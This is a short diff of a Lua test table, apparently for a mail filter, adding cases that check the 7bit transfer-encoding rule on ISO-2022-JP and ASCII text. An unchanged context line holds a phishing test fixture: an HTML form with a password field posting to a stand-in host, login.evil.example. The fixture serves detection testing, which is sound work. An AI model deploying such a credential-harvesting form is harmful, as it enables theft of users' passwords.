@@ -85,6 +85,12 @@ return {
     { name = '8-bit text declared 7bit', text = H ..
         'Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' ..
         'caf\233 cr\232me\r\n', expect = { 'R_BAD_CTE_7BIT' } },
+    { name = 'ISO-2022-JP text is 7-bit bytes', text = H ..
+        'Content-Type: text/plain; charset=iso-2022-jp\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' ..
+        '\27$B$3$s$K$A$O\27(B\r\n', forbid = { 'R_BAD_CTE_7BIT' } },
+    { name = 'plain ASCII declared 7bit', text = H ..
+        'Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: 7bit\r\n\r\n' ..
+        'cafe creme\r\n', forbid = { 'R_BAD_CTE_7BIT' } },
     { name = 'phishing form with a password field', text = H ..
         'Content-Type: text/html\r\n\r\n<form action="http://login.evil.example/p" method="post">' ..
         '<input name="u"><input type="password" name="p"></form>',
